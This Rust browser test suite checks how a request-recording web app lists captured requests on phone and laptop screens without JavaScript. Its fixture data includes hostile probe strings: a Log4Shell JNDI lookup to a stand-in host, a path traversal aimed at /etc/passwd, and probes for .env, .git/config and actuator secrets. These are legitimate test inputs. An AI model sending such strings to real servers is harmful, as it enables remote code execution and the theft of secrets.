//! The list used by touch and by mouse, without JavaScript. Needs Chromium: `make test-browser`.

use anyhow::{Context, ensure};
use fantoccini::Locator;
use fantoccini::actions::{InputSource, MOUSE_BUTTON_MIDDLE, MouseActions, PointerAction};
use forever200_testkit::browser::{Browser, LAPTOP, PHONE, Visitor};
use forever200_testkit::{Stack, until};

/// Window of a medium-sized phone in CSS pixels, without the bars of the browser.
const SCREEN: (u32, u32) = (390, 760);
/// Requests that all differ, so that the list folds none of them.
const REQUESTS: [&str; 9] = [
    "/.env",
    "/wp-login.php",
    "/?x=${jndi:ldap://192.0.2.66/a}",
    "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
    "/robots.txt",
    "/.git/config",
    "/boaform/admin/formLogin",
    "/actuator/env",
    "/favicon.ico",
];

async fn filled() -> anyhow::Result<Stack> {
    let stack = Stack::start().await?;
    for (sent, path) in (1..).zip(REQUESTS) {
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n");
        stack.send(request.as_bytes()).await?;
        stack.until_recorded(sent).await?;
    }
    Ok(stack)
}

/// Opens the list without JavaScript.
async fn list(visitor: Visitor, stack: &Stack) -> anyhow::Result<Browser> {
    let javascript = false;
    let browser = Browser::start(Visitor {
        javascript,
        ..visitor
    })
    .await?;
    let address = format!("http://{}/home", stack.front());
    browser.open(&address).await?;
    Ok(browser)
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn the_first_screen_of_a_phone_has_six_requests_and_a_menu() -> anyhow::Result<()> {
    let stack = filled().await?;
    let browser = list(PHONE, &stack).await?;
    let (width, height) = SCREEN;
    browser.resize(width, height, 1).await?;
    // The notice that all sources are private does not count, because it is shown only in tests.
    let notice = browser.client.find(Locator::Css("#strip .notice")).await?;
    let (_, _, _, notice) = notice.rectangle().await?;
    let mut whole = 0;
    for row in browser
        .client
        .find_all(Locator::Css("#requests tbody tr"))
        .await?
    {
        let (_, top, _, row_height) = row.rectangle().await?;
        whole += usize::from(top + row_height - notice <= f64::from(height));
    }
    ensure!(whole >= 6, "{whole} requests");
    // Folded parts open without a script.
    for (opener, folded) in [("header", "header nav a"), ("main", "#strip .categories")] {
        let folded = browser.client.find(Locator::Css(folded)).await?;
        ensure!(!folded.is_displayed().await?, "{opener} is not folded");
        let opener = format!("{opener} > .opener summary");
        let opener = browser.client.find(Locator::Css(&opener)).await?;
        opener.click().await?;
        ensure!(folded.is_displayed().await?, "it does not open");
    }
    Ok(())
}

/// Moves the pointer to the title of the request in the second row.
async fn point_at_title(browser: &Browser) -> anyhow::Result<()> {
    let titles = browser.client.find_all(Locator::Css("#requests .says b"));
    let titles = titles.await?;
    let (x, y, width, height) = titles.get(1).context("no title")?.rectangle().await?;
    browser.point(x + width / 2.0, y + height / 2.0).await
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn what_a_request_is_leads_to_its_page() -> anyhow::Result<()> {
    let stack = filled().await?;
    let browser = list(LAPTOP, &stack).await?;
    let second = format!("/home/requests/{}", REQUESTS.len() - 1);
    // The link opens in a new tab.
    point_at_title(&browser).await?;
    let button = MOUSE_BUTTON_MIDDLE;
    let press = MouseActions::new("mouse".into())
        .then(PointerAction::Down { button })
        .then(PointerAction::Up { button });
    browser.client.perform_actions(press).await?;
    let tab = until("another tab is open", || async {
        browser.client.windows().await.ok()?.into_iter().nth(1)
    });
    let tab = tab.await?;
    let before = browser.client.window().await?;
    browser.client.switch_to_window(tab).await?;
    until_at(&browser, &second).await?;
    browser.client.switch_to_window(before).await?;
    // The link opens in this tab.
    point_at_title(&browser).await?;
    browser
        .click(Default::default(), Default::default())
        .await?;
    until_at(&browser, &second).await?;
    browser.client.back().await?;
    // A part of the row that is a link itself still leads to its own address.
    let tag = browser.client.find(Locator::Css("#requests .tag")).await?;
    tag.click().await?;
    until_at(&browser, "/home?category=").await
}

/// Waits until the browser's address contains this text.
async fn until_at(browser: &Browser, part: &str) -> anyhow::Result<()> {
    until(part, || async {
        let address = browser.client.current_url().await.ok()?;
        address.as_str().contains(part).then_some(())
    })
    .await
}
